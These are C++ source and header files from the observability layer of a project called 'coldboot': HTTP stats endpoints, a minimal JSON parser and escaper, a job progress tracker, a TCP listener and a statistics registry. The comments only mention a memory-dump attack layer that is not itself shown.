        content_type = "application/json";
        return 200;
    }
    if (path == "/stats/series") {
        std::vector<SeriesSnapshot> series;
        if (opts.sampler != nullptr)
            series = opts.sampler->seriesSnapshot();
        body = renderSeriesJson(series);
        content_type = "application/json";
        return 200;
    }
    if (path == "/trace") {
        body = PhaseTracer::global().chromeTraceJson();
        content_type = "application/json";
        return 200;
    }
    if (path == "/flight") {
        body = FlightRecorder::global().dumpJson();
        content_type = "application/json";
        return 200;
    }
    if (path == "/progress") {
        body = ProgressTracker::global().dumpJson();
        content_type = "application/json";
        return 200;
    }
    if (path == "/quit") {
        quit_flag.store(true, std::memory_order_release);
        body = "bye\n";
        return 200;
    }
    return 404;
}

} // namespace coldboot::obs
