#include "obs/json.hh"

#include <cctype>
#include <cmath>
#include <cstdio>
#include <cstdlib>

namespace coldboot::obs::json
{

const Value *
Value::find(const std::string &key) const
{
    if (kind != Kind::Object)
        return nullptr;
    auto it = object.find(key);
    return it == object.end() ? nullptr : &it->second;
}

namespace
{

/** Cursor over the input with the usual recursive-descent helpers. */
struct Parser
{
    std::string_view text;
    size_t pos = 0;
    bool failed = false;

    void
    skipWs()
    {
        while (pos < text.size() &&
               std::isspace(static_cast<unsigned char>(text[pos])))
            ++pos;
    }

    bool
    consume(char c)
    {
        skipWs();
        if (pos < text.size() && text[pos] == c) {
            ++pos;
            return true;
        }
        return false;
    }

    Value
    fail()
    {
        failed = true;
        return Value{};
    }

    Value
    parseValue()
    {
        skipWs();
        if (pos >= text.size())
            return fail();
        char c = text[pos];
        if (c == '{')
            return parseObject();
        if (c == '[')
            return parseArray();
        if (c == '"')
            return parseString();
        if (c == 't' || c == 'f')
            return parseBool();
        if (c == 'n')
            return parseNull();
        return parseNumber();
    }

    Value
    parseObject()
    {
        Value v;
        v.kind = Value::Kind::Object;
        if (!consume('{'))
            return fail();
        if (consume('}'))
            return v;
        for (;;) {
            Value key = parseString();
            if (failed || !consume(':'))
                return fail();
            v.object[key.str] = parseValue();
            if (failed)
                return fail();
            if (consume(','))
                continue;
            if (consume('}'))
                return v;
            return fail();
        }
    }

    Value
    parseArray()
    {
        Value v;
        v.kind = Value::Kind::Array;
        if (!consume('['))
            return fail();
        if (consume(']'))
            return v;
        for (;;) {
            v.array.push_back(parseValue());
            if (failed)
                return fail();
            if (consume(','))
                continue;
            if (consume(']'))
                return v;
            return fail();
        }
    }

    Value
    parseString()
    {
        Value v;
        v.kind = Value::Kind::String;
        if (!consume('"'))
            return fail();
        while (pos < text.size() && text[pos] != '"') {
            char c = text[pos++];
            if (c != '\\') {
                v.str += c;
                continue;
            }
            if (pos >= text.size())
                return fail();
            char esc = text[pos++];
            switch (esc) {
              case '"': v.str += '"'; break;
              case '\\': v.str += '\\'; break;
              case '/': v.str += '/'; break;
              case 'b': v.str += '\b'; break;
              case 'f': v.str += '\f'; break;
              case 'n': v.str += '\n'; break;
              case 'r': v.str += '\r'; break;
              case 't': v.str += '\t'; break;
              case 'u': {
                if (pos + 4 > text.size())
                    return fail();
                char hex[5] = {text[pos], text[pos + 1],
                               text[pos + 2], text[pos + 3], 0};
                char *end = nullptr;
                unsigned long cp = std::strtoul(hex, &end, 16);
                if (end != hex + 4)
                    return fail();
                pos += 4;
                v.str += cp < 0x80
                             ? static_cast<char>(cp)
                             : '?'; // non-ASCII: placeholder
                break;
              }
              default:
                return fail();
            }
        }
        if (pos >= text.size())
            return fail();
        ++pos; // closing quote
        return v;
    }

    Value
    parseBool()
    {
        Value v;
        v.kind = Value::Kind::Bool;
        if (text.substr(pos, 4) == "true") {
            v.boolean = true;
            pos += 4;
            return v;
        }
        if (text.substr(pos, 5) == "false") {
            v.boolean = false;
            pos += 5;
            return v;
        }
        return fail();
    }

    Value
    parseNull()
    {
        if (text.substr(pos, 4) == "null") {
            pos += 4;
            return Value{};
        }
        return fail();
    }

    Value
    parseNumber()
    {
        size_t start = pos;
        if (pos < text.size() && (text[pos] == '-' || text[pos] == '+'))
            ++pos;
        while (pos < text.size() &&
               (std::isdigit(static_cast<unsigned char>(text[pos])) ||
                text[pos] == '.' || text[pos] == 'e' ||
                text[pos] == 'E' || text[pos] == '-' ||
                text[pos] == '+'))
            ++pos;
        if (pos == start)
            return fail();
        std::string num(text.substr(start, pos - start));
        char *end = nullptr;
        Value v;
        v.kind = Value::Kind::Number;
        v.number = std::strtod(num.c_str(), &end);
        if (end != num.c_str() + num.size())
            return fail();
        return v;
    }
};

} // anonymous namespace

std::optional<Value>
parse(std::string_view text)
{
    Parser p{text};
    Value v = p.parseValue();
    if (p.failed)
        return std::nullopt;
    p.skipWs();
    if (p.pos != text.size())
        return std::nullopt; // trailing garbage
    return v;
}

std::optional<Value>
parseFile(const std::string &path)
{
    std::FILE *f = std::fopen(path.c_str(), "rb");
    if (!f)
        return std::nullopt;
    std::string text;
    char buf[4096];
    size_t got;
    while ((got = std::fread(buf, 1, sizeof(buf), f)) > 0)
        text.append(buf, got);
    std::fclose(f);
    return parse(text);
}

namespace
{

/**
 * Length of the valid UTF-8 sequence starting at s[i] (2-4), or 0
 * when the bytes there are not well-formed UTF-8. Enforces the
 * shortest-form and code-point-range rules (RFC 3629): no overlong
 * encodings, no surrogates (U+D800-U+DFFF), nothing above U+10FFFF.
 */
size_t
utf8SequenceLength(const std::string &s, size_t i)
{
    auto byte = [&](size_t k) {
        return static_cast<unsigned char>(s[k]);
    };
    auto cont = [&](size_t k) {
        return k < s.size() && (byte(k) & 0xc0) == 0x80;
    };
    unsigned char b0 = byte(i);
    if (b0 >= 0xc2 && b0 <= 0xdf)
        return cont(i + 1) ? 2 : 0;
    if (b0 == 0xe0)
        return cont(i + 1) && byte(i + 1) >= 0xa0 && cont(i + 2) ? 3
                                                                 : 0;
    if (b0 >= 0xe1 && b0 <= 0xec)
        return cont(i + 1) && cont(i + 2) ? 3 : 0;
    if (b0 == 0xed) // exclude the surrogate range
        return cont(i + 1) && byte(i + 1) <= 0x9f && cont(i + 2) ? 3
                                                                 : 0;
    if (b0 >= 0xee && b0 <= 0xef)
        return cont(i + 1) && cont(i + 2) ? 3 : 0;
    if (b0 == 0xf0)
        return cont(i + 1) && byte(i + 1) >= 0x90 && cont(i + 2) &&
                       cont(i + 3)
                   ? 4
                   : 0;
    if (b0 >= 0xf1 && b0 <= 0xf3)
        return cont(i + 1) && cont(i + 2) && cont(i + 3) ? 4 : 0;
    if (b0 == 0xf4)
        return cont(i + 1) && byte(i + 1) <= 0x8f && cont(i + 2) &&
                       cont(i + 3)
                   ? 4
                   : 0;
    return 0; // 0x80-0xc1, 0xf5-0xff: never a sequence lead
}

} // anonymous namespace

std::string
escape(const std::string &s)
{
    std::string out;
    out.reserve(s.size() + 2);
    for (size_t i = 0; i < s.size();) {
        unsigned char c = static_cast<unsigned char>(s[i]);
        if (c < 0x80) {
            switch (c) {
              case '"': out += "\\\""; break;
              case '\\': out += "\\\\"; break;
              case '\b': out += "\\b"; break;
              case '\f': out += "\\f"; break;
              case '\n': out += "\\n"; break;
              case '\r': out += "\\r"; break;
              case '\t': out += "\\t"; break;
              default:
                if (c < 0x20) {
                    // Every remaining C0 control needs the \u form -
                    // RFC 8259 forbids them raw inside strings.
                    char buf[8];
                    std::snprintf(buf, sizeof(buf), "\\u%04x", c);
                    out += buf;
                } else {
                    out += static_cast<char>(c);
                }
            }
            ++i;
            continue;
        }
        // Multi-byte input: pass well-formed UTF-8 through verbatim;
        // anything else (stray continuation bytes, overlong forms,
        // truncated sequences - all plausible in strings derived from
        // decayed memory) becomes U+FFFD so the emitted document is
        // always valid UTF-8 JSON.
        size_t len = utf8SequenceLength(s, i);
        if (len == 0) {
            out += "\xef\xbf\xbd"; // U+FFFD replacement character
            ++i;
        } else {
            out.append(s, i, len);
            i += len;
        }
    }
    return out;
}

std::string
number(double v)
{
    if (!std::isfinite(v))
        v = 0.0;
    char buf[40];
    std::snprintf(buf, sizeof(buf), "%.17g", v);
    return buf;
}

} // namespace coldboot::obs::json
