/**
 * @file
 * Minimal recursive-descent JSON parser.
 *
 * Exists so the observability exports (stats JSON, Chrome traces)
 * can be validated in-tree - by test_obs's round-trip tests and the
 * coldboot-tool smoke test - without a Python or third-party JSON
 * dependency. Supports the full JSON grammar the exporters emit:
 * objects, arrays, strings (with the common escapes), numbers,
 * booleans and null. Not a general-purpose parser: \uXXXX escapes
 * outside the ASCII range are replaced with '?'.
 */

#ifndef COLDBOOT_OBS_JSON_HH
#define COLDBOOT_OBS_JSON_HH

#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace coldboot::obs::json
{

/** A parsed JSON value (tree). */
struct Value
{
    enum class Kind { Null, Bool, Number, String, Array, Object };

    Kind kind = Kind::Null;
    bool boolean = false;
    double number = 0.0;
    std::string str;
    std::vector<Value> array;
    std::map<std::string, Value> object;

    bool isNull() const { return kind == Kind::Null; }
    bool isBool() const { return kind == Kind::Bool; }
    bool isNumber() const { return kind == Kind::Number; }
    bool isString() const { return kind == Kind::String; }
    bool isArray() const { return kind == Kind::Array; }
    bool isObject() const { return kind == Kind::Object; }

    /** Object member lookup; nullptr when absent or not an object. */
    const Value *find(const std::string &key) const;
};

/**
 * Parse a complete JSON document (trailing whitespace allowed).
 * @return The parsed tree, or std::nullopt on any syntax error.
 */
std::optional<Value> parse(std::string_view text);

/** Read a whole file and parse it; nullopt on I/O or syntax error. */
std::optional<Value> parseFile(const std::string &path);

//
// Emission helpers shared by the JSON writers (stats registry, bench
// harness): the one escaping/number-rendering code path that
// guarantees every in-tree exporter emits what the in-tree parser
// accepts.
//

/** Escape for embedding inside a JSON string (quotes not added). */
std::string escape(const std::string &s);

/** Render a double as a JSON number (non-finite values become 0). */
std::string number(double v);

} // namespace coldboot::obs::json

#endif // COLDBOOT_OBS_JSON_HH
