/**
 * @file
 * Job progress and ETA tracking - the `/progress` endpoint's data
 * source and the long-campaign answer to "how far along is this
 * multi-GB mining run?".
 *
 * A ProgressJob counts work units done against a fixed total (for
 * the attack layer: dump bytes scanned against the DumpSource size)
 * and derives percent-complete and a remaining-time estimate from
 * its own elapsed steady-clock time. advance() is one relaxed atomic
 * add, so the scan loops can report per-chunk without measurable
 * overhead, and because progress is observation-only it cannot
 * perturb the determinism contract (DESIGN.md §9).
 *
 * The ProgressTracker keeps every live job plus a bounded tail of
 * finished ones (memory never grows unbounded over a long service
 * life) and renders them as JSON.
 */

#ifndef COLDBOOT_OBS_PROGRESS_HH
#define COLDBOOT_OBS_PROGRESS_HH

#include <atomic>
#include <chrono>
#include <cstdint>
#include <deque>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

namespace coldboot::obs
{

/**
 * One tracked job. Obtained from ProgressTracker::startJob(); thread
 * safe - any number of workers may advance() concurrently.
 */
class ProgressJob
{
  public:
    ProgressJob(uint64_t id_, std::string name_, uint64_t total_);

    ProgressJob(const ProgressJob &) = delete;
    ProgressJob &operator=(const ProgressJob &) = delete;

    uint64_t id() const { return job_id; }
    const std::string &name() const { return job_name; }
    uint64_t totalUnits() const { return total; }

    uint64_t doneUnits() const
    {
        return done.load(std::memory_order_relaxed);
    }

    /**
     * Record @p units of completed work (relaxed atomic add). Also
     * drops a Counter breadcrumb into the flight recorder when that
     * is enabled, so a post-mortem shows how far each job had
     * progressed - observation-only either way, so the determinism
     * contract (DESIGN.md §9) is untouched.
     */
    void advance(uint64_t units);

    /**
     * Mark the job complete: progress snaps to 100%, the end time is
     * frozen. Idempotent.
     */
    void finish();

    bool finished() const
    {
        return done_flag.load(std::memory_order_acquire);
    }

    /**
     * Percent complete in [0, 100]. Monotonically non-decreasing:
     * done only ever grows and finish() reports 100. A zero-total
     * job reports 0 until finished.
     */
    double percent() const;

    /** Seconds since the job started (frozen once finished). */
    double elapsedSeconds() const;

    /**
     * Estimated remaining seconds, extrapolated from the average
     * rate so far; -1 when unknown (no work done yet), 0 once
     * finished.
     */
    double etaSeconds() const;

  private:
    uint64_t job_id;
    std::string job_name;
    uint64_t total;
    std::atomic<uint64_t> done{0};
    std::atomic<bool> done_flag{false};
    std::chrono::steady_clock::time_point start;
    /** Valid only after finish(). */
    std::chrono::steady_clock::time_point end;
};

/** Point-in-time copy of one job for rendering. */
struct ProgressSnapshot
{
    uint64_t id = 0;
    std::string name;
    uint64_t total_units = 0;
    uint64_t done_units = 0;
    double percent = 0.0;
    double elapsed_seconds = 0.0;
    /** -1 when unknown. */
    double eta_seconds = -1.0;
    bool finished = false;
};

/**
 * Process-global (or test-local) registry of jobs. startJob() is
 * cheap; finished jobs are retained up to `keptFinished` entries so
 * `/progress` can show recently completed work without unbounded
 * growth.
 */
class ProgressTracker
{
  public:
    /** Finished jobs retained for display. */
    static constexpr size_t keptFinished = 64;

    /** The process-global tracker instance. */
    static ProgressTracker &global();

    /** Create and register a job. The tracker keeps it alive. */
    std::shared_ptr<ProgressJob> startJob(const std::string &name,
                                          uint64_t total_units);

    /**
     * Copies of every retained job, oldest first. Also trims the
     * finished-job tail, so a burst of finishes with no intervening
     * startJob() still converges to the keptFinished bound.
     */
    std::vector<ProgressSnapshot> snapshot();

    /**
     * {"jobs": [{"id","name","total_units","done_units","percent",
     *            "eta_seconds","elapsed_seconds","finished"}, ...]}
     */
    std::string dumpJson();

    /** Drop every job (for tests and epoch rollover). */
    void resetForTest();

  private:
    void evictFinished();

    mutable std::mutex mu;
    std::deque<std::shared_ptr<ProgressJob>> jobs;
    uint64_t next_id = 1;
};

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_PROGRESS_HH
