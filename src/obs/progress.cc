#include "obs/progress.hh"

#include <algorithm>

#include "obs/flight.hh"
#include "obs/json.hh"

namespace coldboot::obs
{

//
// ProgressJob
//

ProgressJob::ProgressJob(uint64_t id_, std::string name_,
                         uint64_t total_)
    : job_id(id_), job_name(std::move(name_)), total(total_),
      start(std::chrono::steady_clock::now())
{
}

void
ProgressJob::advance(uint64_t units)
{
    uint64_t before =
        done.fetch_add(units, std::memory_order_relaxed);
    if (FlightRecorder *fr = FlightRecorder::instance();
        fr && fr->enabled())
        fr->record(FlightKind::Counter, job_name.c_str(), units,
                   before + units);
}

void
ProgressJob::finish()
{
    bool expected = false;
    if (done_flag.compare_exchange_strong(expected, true,
                                          std::memory_order_acq_rel)) {
        end = std::chrono::steady_clock::now();
        // Snap the done count to the total so percent() lands on
        // exactly 100 even when the caller's unit accounting was
        // conservative (e.g. a truncated tail chunk).
        uint64_t d = done.load(std::memory_order_relaxed);
        if (d < total)
            done.fetch_add(total - d, std::memory_order_relaxed);
    }
}

double
ProgressJob::percent() const
{
    if (finished())
        return 100.0;
    if (total == 0)
        return 0.0;
    double p = 100.0 *
               static_cast<double>(done.load(std::memory_order_relaxed)) /
               static_cast<double>(total);
    return std::clamp(p, 0.0, 100.0);
}

double
ProgressJob::elapsedSeconds() const
{
    auto stop = finished() ? end : std::chrono::steady_clock::now();
    return std::chrono::duration<double>(stop - start).count();
}

double
ProgressJob::etaSeconds() const
{
    if (finished())
        return 0.0;
    uint64_t d = done.load(std::memory_order_relaxed);
    if (d == 0 || total == 0)
        return -1.0;
    if (d >= total)
        return 0.0;
    double elapsed = elapsedSeconds();
    return elapsed * static_cast<double>(total - d) /
           static_cast<double>(d);
}

//
// ProgressTracker
//

ProgressTracker &
ProgressTracker::global()
{
    static ProgressTracker instance;
    return instance;
}

std::shared_ptr<ProgressJob>
ProgressTracker::startJob(const std::string &name,
                          uint64_t total_units)
{
    std::lock_guard<std::mutex> lock(mu);
    auto job =
        std::make_shared<ProgressJob>(next_id++, name, total_units);
    jobs.push_back(job);
    evictFinished();
    return job;
}

void
ProgressTracker::evictFinished()
{
    // Called under `mu`. Drop the oldest finished jobs once more than
    // keptFinished of them accumulated; live jobs are never evicted.
    size_t finished_count = 0;
    for (const auto &j : jobs)
        if (j->finished())
            ++finished_count;
    for (auto it = jobs.begin();
         finished_count > keptFinished && it != jobs.end();) {
        if ((*it)->finished()) {
            it = jobs.erase(it);
            --finished_count;
        } else {
            ++it;
        }
    }
}

std::vector<ProgressSnapshot>
ProgressTracker::snapshot()
{
    std::lock_guard<std::mutex> lock(mu);
    evictFinished();
    std::vector<ProgressSnapshot> out;
    out.reserve(jobs.size());
    for (const auto &j : jobs) {
        ProgressSnapshot s;
        s.id = j->id();
        s.name = j->name();
        s.total_units = j->totalUnits();
        s.done_units = j->doneUnits();
        s.percent = j->percent();
        s.elapsed_seconds = j->elapsedSeconds();
        s.eta_seconds = j->etaSeconds();
        s.finished = j->finished();
        out.push_back(std::move(s));
    }
    return out;
}

std::string
ProgressTracker::dumpJson()
{
    auto snaps = snapshot();
    std::string out = "{\n  \"jobs\": [";
    bool first = true;
    for (const auto &s : snaps) {
        out += first ? "\n" : ",\n";
        first = false;
        out += "    {\"id\": " + std::to_string(s.id) +
               ", \"name\": \"" + json::escape(s.name) +
               "\", \"total_units\": " + std::to_string(s.total_units) +
               ", \"done_units\": " + std::to_string(s.done_units) +
               ", \"percent\": " + json::number(s.percent) +
               ", \"eta_seconds\": " + json::number(s.eta_seconds) +
               ", \"elapsed_seconds\": " +
               json::number(s.elapsed_seconds) + ", \"finished\": " +
               (s.finished ? "true" : "false") + "}";
    }
    out += "\n  ]\n}\n";
    return out;
}

void
ProgressTracker::resetForTest()
{
    std::lock_guard<std::mutex> lock(mu);
    jobs.clear();
    next_id = 1;
}

} // namespace coldboot::obs
