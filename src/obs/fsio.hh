/**
 * @file
 * File output helper shared by every observability exporter (stats
 * JSON, Chrome traces, BENCH.json): creates missing parent
 * directories and turns I/O failures into clear fatal errors instead
 * of a bare "cannot open".
 */

#ifndef COLDBOOT_OBS_FSIO_HH
#define COLDBOOT_OBS_FSIO_HH

#include <string>
#include <string_view>

namespace coldboot::obs
{

/**
 * Write @p content to @p path, creating missing parent directories
 * first. @p what names the output in error messages ("stats output",
 * "trace output", ...). cb_fatal (exit 1) with the OS error string
 * when the directory cannot be created or the file cannot be
 * written.
 */
void writeFileCreatingDirs(const std::string &path,
                           std::string_view content,
                           const char *what);

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_FSIO_HH
