/**
 * @file
 * Minimal IPv4 TCP listener shared by every socket-serving surface
 * (the observability HTTP server and the analysis-job daemon).
 *
 * Factoring the bind/listen/getsockname dance out of ObsHttpServer
 * buys two things the job service needs and the HTTP server always
 * wanted: `port 0` ephemeral binding with the chosen port readable
 * back (so wrappers and tests never race for a free port), and a
 * dedicated, human-actionable error when the address is already in
 * use - EADDRINUSE is the one bind failure an operator hits in
 * practice, and "bind: Address already in use" without the endpoint
 * is useless in a log file.
 *
 * Binding defaults to 127.0.0.1 (ServeSpec): both servers carry
 * key-extraction state, so nothing listens beyond localhost unless
 * the operator says so explicitly.
 */

#ifndef COLDBOOT_OBS_TCP_LISTENER_HH
#define COLDBOOT_OBS_TCP_LISTENER_HH

#include <cstdint>
#include <string>

namespace coldboot::obs
{

/** Parsed `[addr:]port` server spec (`--serve-obs` / `--port`). */
struct ServeSpec
{
    std::string addr = "127.0.0.1";
    /** 0 = let the kernel pick an ephemeral port. */
    uint16_t port = 0;
};

/**
 * Parse "8080", "127.0.0.1:8080", "0.0.0.0:0"... into a ServeSpec.
 * The address part must be a literal IPv4 address.
 *
 * @param error When non-null, receives the reason on failure.
 */
bool parseServeSpec(const std::string &text, ServeSpec *out,
                    std::string *error = nullptr);

/**
 * A bound, listening IPv4 TCP socket. open() binds and listens;
 * acceptConnection() blocks for the next client;
 * shutdownListener() unblocks a concurrent accept (the usual
 * stop sequence: shutdownListener from the control thread, join the
 * accept loop, then destroy).
 */
class TcpListener
{
  public:
    TcpListener() = default;

    TcpListener(const TcpListener &) = delete;
    TcpListener &operator=(const TcpListener &) = delete;

    ~TcpListener();

    /**
     * Socket + SO_REUSEADDR + bind + listen + getsockname. Returns
     * false with @p error set on failure; an in-use address yields
     * the dedicated "address already in use: <addr>:<port> (is
     * another instance running?)" form callers surface as a fatal.
     */
    bool open(const ServeSpec &bind, std::string *error = nullptr);

    /**
     * Block for the next connection; rides out EINTR. Returns the
     * connected fd (caller closes), or -1 once the listener was shut
     * down or broke.
     */
    int acceptConnection();

    /** Unblock any accept() and refuse new connections (idempotent,
     *  safe from another thread). */
    void shutdownListener();

    /** Close the socket (idempotent; implies shutdownListener). */
    void close();

    bool isOpen() const { return fd_ >= 0; }

    /** Address actually bound (valid after a successful open()). */
    const std::string &address() const { return bound_addr_; }

    /** Port actually bound - resolves `port 0` requests. */
    uint16_t port() const { return bound_port_; }

  private:
    int fd_ = -1;
    std::string bound_addr_;
    uint16_t bound_port_ = 0;
};

} // namespace coldboot::obs

#endif // COLDBOOT_OBS_TCP_LISTENER_HH
