#include "obs/stats.hh"

#include <algorithm>
#include <cmath>
#include <cstdio>
#include <cstdlib>

#include "common/logging.hh"
#include "obs/fsio.hh"
#include "obs/json.hh"
#include "obs/trace.hh"

namespace coldboot::obs
{

namespace
{

using json::escape;

/** Render a double as JSON (non-finite values become 0). */
std::string
jsonNumber(double v)
{
    return json::number(v);
}

} // anonymous namespace

//
// Distribution
//

Distribution::Distribution(std::vector<double> bucket_edges)
    : edges(std::move(bucket_edges))
{
    cb_assert(std::is_sorted(edges.begin(), edges.end()),
              "Distribution: bucket edges must be sorted");
    if (!edges.empty())
        buckets.assign(edges.size() + 1, 0);
}

void
Distribution::sample(double value)
{
    std::lock_guard<std::mutex> lock(mu);
    if (n == 0) {
        vmin = vmax = value;
    } else {
        vmin = std::min(vmin, value);
        vmax = std::max(vmax, value);
    }
    ++n;
    sum += value;
    sum_sq += value * value;
    if (!buckets.empty()) {
        // Bucket i counts values in [edges[i-1], edges[i]); the first
        // bucket is the underflow (-inf, edges[0]) and the last the
        // overflow [edges.back(), +inf).
        size_t idx = static_cast<size_t>(
            std::upper_bound(edges.begin(), edges.end(), value) -
            edges.begin());
        ++buckets[idx];
    }
}

DistributionSnapshot
Distribution::snapshot() const
{
    std::lock_guard<std::mutex> lock(mu);
    DistributionSnapshot s;
    s.count = n;
    s.min = vmin;
    s.max = vmax;
    s.sum = sum;
    s.bucket_edges = edges;
    s.bucket_counts = buckets;
    if (n > 0) {
        s.mean = sum / static_cast<double>(n);
        double var =
            sum_sq / static_cast<double>(n) - s.mean * s.mean;
        s.stddev = var > 0.0 ? std::sqrt(var) : 0.0;
    }
    return s;
}

void
Distribution::reset()
{
    std::lock_guard<std::mutex> lock(mu);
    n = 0;
    sum = sum_sq = vmin = vmax = 0.0;
    std::fill(buckets.begin(), buckets.end(), 0);
}

//
// Rate
//

double
Rate::seconds() const
{
    return std::chrono::duration<double>(
               std::chrono::steady_clock::now() - start)
        .count();
}

double
Rate::perSecond() const
{
    double secs = seconds();
    if (secs <= 0.0)
        return 0.0;
    return static_cast<double>(events.value()) / secs;
}

void
Rate::reset()
{
    events.reset();
    start = std::chrono::steady_clock::now();
}

//
// StatRegistry
//

StatRegistry::StatRegistry()
    : epoch(std::chrono::steady_clock::now())
{
}

StatRegistry &
StatRegistry::global()
{
    static StatRegistry instance;
    return instance;
}

StatRegistry::Entry &
StatRegistry::findOrCreate(const std::string &name, Kind kind,
                           const std::string &desc)
{
    std::lock_guard<std::mutex> lock(mu);
    auto it = entries.find(name);
    if (it != entries.end()) {
        if (it->second->kind != kind)
            cb_fatal("stat '%s' already registered with a different "
                     "type", name.c_str());
        if (it->second->desc.empty() && !desc.empty())
            it->second->desc = desc;
        return *it->second;
    }
    auto entry = std::make_unique<Entry>();
    entry->kind = kind;
    entry->desc = desc;
    return *entries.emplace(name, std::move(entry)).first->second;
}

Counter &
StatRegistry::counter(const std::string &name, const std::string &desc)
{
    return findOrCreate(name, Kind::CounterKind, desc).counter;
}

Distribution &
StatRegistry::distribution(const std::string &name,
                           const std::string &desc,
                           std::vector<double> bucket_edges)
{
    std::lock_guard<std::mutex> lock(mu);
    auto it = entries.find(name);
    if (it != entries.end()) {
        if (it->second->kind != Kind::DistributionKind)
            cb_fatal("stat '%s' already registered with a different "
                     "type", name.c_str());
        return *it->second->dist;
    }
    auto entry = std::make_unique<Entry>();
    entry->kind = Kind::DistributionKind;
    entry->desc = desc;
    entry->dist =
        std::make_unique<Distribution>(std::move(bucket_edges));
    return *entries.emplace(name, std::move(entry))
                .first->second->dist;
}

Rate &
StatRegistry::rate(const std::string &name, const std::string &desc)
{
    std::lock_guard<std::mutex> lock(mu);
    auto it = entries.find(name);
    if (it != entries.end()) {
        if (it->second->kind != Kind::RateKind)
            cb_fatal("stat '%s' already registered with a different "
                     "type", name.c_str());
        return *it->second->rate;
    }
    auto entry = std::make_unique<Entry>();
    entry->kind = Kind::RateKind;
    entry->desc = desc;
    entry->rate = std::make_unique<Rate>();
    return *entries.emplace(name, std::move(entry))
                .first->second->rate;
}

void
StatRegistry::setScalar(const std::string &name, double value,
                        const std::string &desc)
{
    if (!std::isfinite(value))
        value = 0.0;
    findOrCreate(name, Kind::ScalarKind, desc)
        .scalar.store(value, std::memory_order_relaxed);
}

bool
StatRegistry::has(const std::string &name) const
{
    std::lock_guard<std::mutex> lock(mu);
    return entries.count(name) != 0;
}

uint64_t
StatRegistry::counterValue(const std::string &name) const
{
    std::lock_guard<std::mutex> lock(mu);
    auto it = entries.find(name);
    if (it == entries.end() || it->second->kind != Kind::CounterKind)
        return 0;
    return it->second->counter.value();
}

double
StatRegistry::scalarValue(const std::string &name) const
{
    std::lock_guard<std::mutex> lock(mu);
    auto it = entries.find(name);
    if (it == entries.end() || it->second->kind != Kind::ScalarKind)
        return 0.0;
    return it->second->scalar.load(std::memory_order_relaxed);
}

std::vector<StatSnapshot>
StatRegistry::snapshotAll() const
{
    std::lock_guard<std::mutex> lock(mu);
    std::vector<StatSnapshot> out;
    out.reserve(entries.size());
    for (const auto &kv : entries) {
        const Entry &e = *kv.second;
        StatSnapshot s;
        s.name = kv.first;
        s.desc = e.desc;
        switch (e.kind) {
          case Kind::CounterKind:
            s.type = StatSnapshot::Type::Counter;
            s.value = static_cast<double>(e.counter.value());
            break;
          case Kind::ScalarKind:
            s.type = StatSnapshot::Type::Scalar;
            s.value = e.scalar.load(std::memory_order_relaxed);
            break;
          case Kind::RateKind:
            s.type = StatSnapshot::Type::Rate;
            s.value = static_cast<double>(e.rate->value());
            s.per_second = e.rate->perSecond();
            break;
          case Kind::DistributionKind:
            s.type = StatSnapshot::Type::Distribution;
            s.dist = e.dist->snapshot();
            s.value = static_cast<double>(s.dist.count);
            break;
        }
        out.push_back(std::move(s));
    }
    return out;
}

double
StatRegistry::wallSeconds() const
{
    return std::chrono::duration<double>(
               std::chrono::steady_clock::now() - epoch)
        .count();
}

void
StatRegistry::resetForTest()
{
    std::lock_guard<std::mutex> lock(mu);
    for (auto &kv : entries) {
        Entry &e = *kv.second;
        switch (e.kind) {
          case Kind::CounterKind: e.counter.reset(); break;
          case Kind::DistributionKind: e.dist->reset(); break;
          case Kind::RateKind: e.rate->reset(); break;
          case Kind::ScalarKind: e.scalar.store(0.0); break;
        }
    }
    epoch = std::chrono::steady_clock::now();
}

std::string
StatRegistry::dumpText() const
{
    std::lock_guard<std::mutex> lock(mu);
    std::string out;
    char buf[256];
    for (const auto &kv : entries) {
        const Entry &e = *kv.second;
        switch (e.kind) {
          case Kind::CounterKind:
            std::snprintf(buf, sizeof(buf), "%-52s %20llu\n",
                          kv.first.c_str(),
                          static_cast<unsigned long long>(
                              e.counter.value()));
            out += buf;
            break;
          case Kind::ScalarKind:
            std::snprintf(buf, sizeof(buf), "%-52s %20.6g\n",
                          kv.first.c_str(),
                          e.scalar.load(std::memory_order_relaxed));
            out += buf;
            break;
          case Kind::RateKind:
            std::snprintf(buf, sizeof(buf),
                          "%-52s %20llu (%.6g/s)\n",
                          kv.first.c_str(),
                          static_cast<unsigned long long>(
                              e.rate->value()),
                          e.rate->perSecond());
            out += buf;
            break;
          case Kind::DistributionKind: {
            auto s = e.dist->snapshot();
            std::snprintf(buf, sizeof(buf),
                          "%-52s n=%llu min=%.6g max=%.6g "
                          "mean=%.6g stddev=%.6g\n",
                          kv.first.c_str(),
                          static_cast<unsigned long long>(s.count),
                          s.min, s.max, s.mean, s.stddev);
            out += buf;
            break;
          }
        }
    }
    return out;
}

std::string
StatRegistry::dumpJson() const
{
    std::lock_guard<std::mutex> lock(mu);
    std::string out = "{\n  \"meta\": {\"wall_seconds\": ";
    out += jsonNumber(std::chrono::duration<double>(
                          std::chrono::steady_clock::now() - epoch)
                          .count());
    out += "},\n  \"stats\": {";
    bool first = true;
    for (const auto &kv : entries) {
        const Entry &e = *kv.second;
        out += first ? "\n" : ",\n";
        first = false;
        out += "    \"" + escape(kv.first) + "\": {";
        out += "\"desc\": \"" + escape(e.desc) + "\", ";
        switch (e.kind) {
          case Kind::CounterKind:
            out += "\"type\": \"counter\", \"value\": " +
                   std::to_string(e.counter.value());
            break;
          case Kind::ScalarKind:
            out += "\"type\": \"scalar\", \"value\": " +
                   jsonNumber(
                       e.scalar.load(std::memory_order_relaxed));
            break;
          case Kind::RateKind:
            out += "\"type\": \"rate\", \"value\": " +
                   std::to_string(e.rate->value()) +
                   ", \"seconds\": " + jsonNumber(e.rate->seconds()) +
                   ", \"per_second\": " +
                   jsonNumber(e.rate->perSecond());
            break;
          case Kind::DistributionKind: {
            auto s = e.dist->snapshot();
            out += "\"type\": \"distribution\", \"count\": " +
                   std::to_string(s.count) +
                   ", \"min\": " + jsonNumber(s.min) +
                   ", \"max\": " + jsonNumber(s.max) +
                   ", \"sum\": " + jsonNumber(s.sum) +
                   ", \"mean\": " + jsonNumber(s.mean) +
                   ", \"stddev\": " + jsonNumber(s.stddev);
            if (!s.bucket_edges.empty()) {
                out += ", \"bucket_edges\": [";
                for (size_t i = 0; i < s.bucket_edges.size(); ++i) {
                    if (i)
                        out += ", ";
